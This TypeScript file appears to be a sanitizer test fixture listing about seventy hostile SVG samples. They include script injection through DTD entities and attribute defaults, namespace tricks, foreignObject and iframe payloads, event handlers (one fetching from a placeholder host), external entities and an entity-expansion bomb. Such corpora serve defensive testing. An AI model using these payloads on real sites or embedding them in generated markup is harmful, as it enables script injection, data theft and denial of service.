import { IMAGE, SCRIPT, subset, svg } from './drawing-markup'

/** Declarations that browsers read and many checks don't. */
const DECLARED = {
  'a default of an attribute that runs': subset('<!ATTLIST svg onload CDATA "RUN">'),
  'a default of an attribute, by a parameter entity': subset(
    '<!ENTITY % d "<!ATTLIST svg onload CDATA \'RUN\'>">\n%d;',
  ),
  'a default address': subset('<!ATTLIST image href CDATA "BASE/a.png">', `<image ${IMAGE}/>`),
  'a default style': subset('<!ATTLIST rect style CDATA "fill:url(BASE/a#a)">', `<rect ${IMAGE}/>`),
  'a default namespace': subset(
    '<!ATTLIST g xmlns CDATA "http://www.w3.org/1999/xhtml">',
    '<g><img src="BASE/a.png"/></g>',
  ),
  'an entity of markup': subset(`<!ENTITY a "${SCRIPT}">`, '&a;'),
  'an entity declared twice, the first of which counts': subset(`<!ENTITY a "${SCRIPT}"><!ENTITY a "">`, '&a;'),
  'an entity declared twice, the last of which counts': subset(`<!ENTITY a ""><!ENTITY a "${SCRIPT}">`, '&a;'),
  'an entity that a parameter entity declares': subset(
    `<!ENTITY % d '<!ENTITY a "${SCRIPT}">'>\n%d;\n<!ENTITY a "">`,
    '&a;',
  ),
  'an entity of entities': subset(`<!ENTITY a "&#60;script>RUN&#60;/script>"><!ENTITY b "&a;">`, '&b;'),
  'a redefined &nbsp;': subset(`<!ENTITY nbsp "${SCRIPT}">`, '<text>&nbsp;</text>'),
  'a redefined &lt;': subset('<!ENTITY lt "&#38;#60;">', '&lt;script>RUN&lt;/script>'),
  'an entity in an address': subset('<!ENTITY a "BASE/a.png">', `<image href="&a;" ${IMAGE}/>`),
  'an entity in a style': subset('<!ENTITY a "@import \'BASE/a.css\';">', '<style>&a;</style>'),
  'an external entity': subset('<!ENTITY a SYSTEM "BASE/a.xml">', '&a;'),
  'an external parameter entity': subset('<!ENTITY % a SYSTEM "BASE/a.dtd">\n%a;'),
  'an external document type': svg('', { before: '<!DOCTYPE svg SYSTEM "BASE/a.dtd">' }),
  'a document type of XHTML with its entities': svg('<text>&nbsp;</text>', {
    before: '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "BASE/a.dtd">',
  }),
  'a bracket hidden in a comment of the declarations': subset('<!-- ]> --><!ATTLIST svg onload CDATA "RUN">'),
  'a bracket hidden in an instruction of the declarations': subset('<?a ]> ?><!ATTLIST svg onload CDATA "RUN">'),
  'a bracket hidden in an entity': subset('<!ENTITY a "]>"><!ATTLIST svg onload CDATA "RUN">'),
  'a quote in a comment of the declarations': subset('<!-- " --><!ATTLIST svg onload CDATA "RUN"><!-- " -->'),
  'a document type over several lines': svg('', {
    before: '<!DOCTYPE\nsvg\nPUBLIC "a" "b"\n\t[<!ATTLIST svg onload CDATA "RUN">]\n>',
  }),
  'an unparsed entity': subset('<!NOTATION n SYSTEM "BASE/n"><!ENTITY a SYSTEM "BASE/a.png" NDATA n>'),
  'entities that multiply': subset(
    '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">',
    `<text>&c;</text>${SCRIPT}`,
  ),
}

const ELEMENTS = {
  'a script': svg(SCRIPT),
  'a script that is loaded': svg('<script href="BASE/a.js"/>'),
  'a script that is loaded, as in SVG 1.1': svg('<script xlink:href="BASE/a.js"/>'),
  'a script as CDATA': svg('<script><![CDATA[RUN]]></script>'),
  'a module': svg('<script type="module">import "BASE/a.js"</script>'),
  'a script with a prefix': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">RUN</s:script>'),
  'a script in a drawing with a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>RUN</s:script></s:svg>`,
  'a script of HTML': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">RUN</h:script>'),
  'a script of HTML in a namespace by references': svg(
    '<script xmlns="http://www.w3.org/1999/xht&#109;l">RUN</script>',
  ),
  'a script by xlink’s prefix': svg('<g xmlns:xlink="http://www.w3.org/2000/svg"><xlink:script>RUN</xlink:script></g>'),
  'a script in another namespace': svg(`<x xmlns="urn:x"><script xmlns="http://www.w3.org/2000/svg">RUN</script></x>`),
  'a script in metadata': svg(`<metadata>${SCRIPT}</metadata>`),
  'a script in a title': svg(`<title>${SCRIPT}</title>`),
  'a script in a description': svg(`<desc>${SCRIPT}</desc>`),
  'a script in a style': svg(`<style>${SCRIPT}</style>`),
  'a script in a definition': svg(`<defs><symbol id="a">${SCRIPT}</symbol></defs><use href="#a"/>`),
  'a script in an inner drawing': svg(`<svg>${SCRIPT}</svg>`),
  'a script behind a choice': svg(`<switch><g requiredExtensions="x"/><g>${SCRIPT}</g></switch>`),
  'a script of SVG Tiny': svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler>'),
  'a script as escaped text': svg('<title>&lt;/title&gt;&lt;script&gt;RUN&lt;/script&gt;</title>'),
  'a page in the drawing': svg(
    '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN"/></foreignObject>',
  ),
  'a frame of a script': svg(
    '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:RUN"/></foreignObject>',
  ),
  'a frame of a document': svg(
    '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>RUN&lt;/script>"/></foreignObject>',
  ),
  'a picture of HTML': svg('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="BASE/a.png"/>'),
  'a picture of HTML that fails': svg('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="RUN"/>'),
  'a video of HTML': svg('<h:video xmlns:h="http://www.w3.org/1999/xhtml" src="BASE/a.mp4" poster="BASE/a.png"/>'),
  'an object of HTML': svg('<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="BASE/a.svg"/>'),
  'an embedded plugin of HTML': svg('<h:embed xmlns:h="http://www.w3.org/1999/xhtml" src="BASE/a.svg"/>'),
  'a refresh of HTML': svg('<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;BASE/a"/>'),
  'a stylesheet link of HTML': svg(
    '<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="BASE/a.css"/>',
  ),
  'a base address of HTML': svg(
    `<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="BASE/"/><image href="a.png" ${IMAGE}/>`,
  ),
  'a field of HTML that is focused': svg(
    '<h:input xmlns:h="http://www.w3.org/1999/xhtml" autofocus="" onfocus="RUN"/>',
  ),
  'a frame of SVG': svg('<iframe src="javascript:RUN"/><audio src="BASE/a.mp3"/><video src="BASE/a.mp4"/>'),
  'an unclosed comment': svg(`<!-- --><!--><script>RUN</script>-->`),
  'a comment that HTML ends': svg(`<!-- --!><script>RUN</script> -->`),
  'CDATA that HTML does not know': svg(`<desc><![CDATA[</desc><script>RUN</script>]]></desc>`),
  'a style that HTML ends': svg(`<style><![CDATA[</style><script>RUN</script>]]></style>`),
}

const HANDLERS = {
  'code when it is loaded': svg('', { attributes: ' onload="RUN"' }),
  'code in capitals': svg('', { attributes: ' ONLOAD="RUN"' }),
  'code after a line break': svg('', { attributes: '\nonload\n=\n"RUN"' }),
  'code by references': svg('', { attributes: ' onload="&#102;etch(&#39;BASE/a&#39;)"' }),
  'code with a prefix': svg('', { attributes: ' xmlns:s="http://www.w3.org/2000/svg" s:onload="RUN"' }),
  'code without quotes, as in HTML': '<svg xmlns="http://www.w3.org/2000/svg" onload=RUN>',
  'code of a missing picture': svg(`<image href="data:image/png;base64,AA" onerror="RUN" ${IMAGE}/>`),
  'code of an animation that begins': svg('<rect><animate attributeName="x" dur="1s" onbegin="RUN"/></rect>'),
  'code of an animation that ends': svg('<rect><animate attributeName="x" dur="0.01s" onend="RUN"/></rect>'),
  'code of a style’s animation': svg(
    '<style>@keyframes k{to{opacity:0}}rect{animation:k 1ms}</style><rect onanimationstart="RUN"/>',
  ),
  'code when it is focused': svg('<a href="#a" tabindex="1" autofocus="" onfocus="RUN"><rect/></a>'),
  'code that an animation sets': svg('<set attributeName="onload" to="RUN"/><set attributeName="onclick" to="RUN"/>'),
  'code on a page that is shown': svg('', { attributes: ' onpageshow="RUN" onresize="RUN" onfocusin="RUN"' }),
}

/** Drawings that run a script. RUN stands for the script, and BASE for the origin of another host. */
export const HOSTILE_CODE: Record<string, string> = { ...DECLARED, ...ELEMENTS, ...HANDLERS }
